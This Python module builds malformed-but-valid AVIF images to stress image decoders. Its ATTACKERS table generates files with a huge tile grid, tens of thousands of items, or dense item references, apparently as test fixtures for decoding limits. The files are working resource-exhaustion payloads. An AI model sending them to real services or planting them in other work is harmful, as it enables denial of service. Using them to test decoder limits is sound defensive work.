"""AVIF files that are small and valid enough to be opened, and that take long to read."""

from __future__ import annotations

import io
import struct

from PIL import Image

_SIDE = 64


def _box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", 8 + len(data)) + kind + data


def _full(kind: bytes, data: bytes, version: int = 0, flags: int = 0) -> bytes:
    return _box(kind, struct.pack(">I", version << 24 | flags) + data)


def _coded() -> tuple[bytes, bytes]:
    """The configuration and the data of a picture of 64 × 64 pixels."""
    file = io.BytesIO()
    Image.effect_noise((_SIDE, _SIDE), 50).convert("RGB").save(file, "AVIF", speed=10)
    data = file.getvalue()
    at = data.index(b"av1C") - 4
    (length,) = struct.unpack_from(">I", data, at)
    return data[at : at + length], data[data.index(b"mdat") + 4 :]


def avif(tiles: int, items: int, references: int = 0) -> bytes:
    """A grid of *tiles* × *tiles* pictures, and further pictures, so that there are *items*. All have the same data.

    The further pictures refer to *references* others each.
    """
    configuration, picture = _coded()
    grid = bytes([0, 1, tiles - 1, tiles - 1]) + struct.pack(">II", _SIDE * tiles, _SIDE * tiles)
    places = [(1, 0, len(grid)), *((2 + number, len(grid), len(picture)) for number in range(items))]
    infos = [_full(b"infe", struct.pack(">HH4sB", 1, 0, b"grid", 0), 2)]
    infos += [_full(b"infe", struct.pack(">HH4sB", 2 + number, 0, b"av01", 0), 2) for number in range(items)]
    properties = _full(b"ispe", struct.pack(">II", _SIDE * tiles, _SIDE * tiles))
    properties += _full(b"ispe", struct.pack(">II", _SIDE, _SIDE)) + _full(b"pixi", b"\3\x08\x08\x08") + configuration
    owned = struct.pack(">IHBBB", 1 + items, 1, 2, 1, 3)
    owned += b"".join(struct.pack(">HBBBB", 2 + number, 3, 2, 3, 0x84) for number in range(items))
    used = tiles * tiles
    refers = _box(b"dimg", struct.pack(f">HH{used}H", 1, used, *range(2, 2 + used)))
    for number in range(used, items if references else used):
        refers += _box(b"cdsc", struct.pack(f">HH{references}H", 2 + number, references, *range(1, 1 + references)))

    def meta(start: int) -> bytes:
        location = struct.pack(">BBH", 0x44, 0, len(places))
        location += b"".join(struct.pack(">HHHII", item, 0, 1, start + at, length) for item, at, length in places)
        return _full(
            b"meta",
            _full(b"hdlr", bytes(4) + b"pict" + bytes(13))
            + _full(b"pitm", struct.pack(">H", 1))
            + _full(b"iloc", location)
            + _full(b"iinf", struct.pack(">H", len(infos)) + b"".join(infos))
            + _full(b"iref", refers)
            + _box(b"iprp", _box(b"ipco", properties) + _full(b"ipma", owned)),
        )

    kind = _box(b"ftyp", b"avif" + bytes(4) + b"avifmif1miaf")
    start = len(kind) + len(meta(0)) + 8
    return kind + meta(start) + _box(b"mdat", grid + picture)


ATTACKERS = {
    "tiles.avif": lambda: avif(78, 78 * 78),
    "items.avif": lambda: avif(2, 60_000),
    "references.avif": lambda: avif(2, 3000, 3000),
}
